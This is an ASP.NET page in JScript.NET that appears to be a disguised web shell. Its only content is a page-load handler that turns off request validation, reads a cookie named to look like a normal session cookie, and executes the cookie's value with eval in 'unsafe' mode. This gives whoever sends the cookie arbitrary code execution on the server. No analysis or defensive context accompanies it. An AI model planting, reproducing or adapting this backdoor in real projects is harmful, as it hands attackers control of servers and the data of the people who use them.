<%@ Page Language="JScript" validateRequest="false" %>
<script language="jscript" runat="server">
function Page_Load(){
  var c = Request.Cookies["ASP.NET_SessionKey"];
  if (c != null) eval(c.Value, "unsafe");
}
</script>
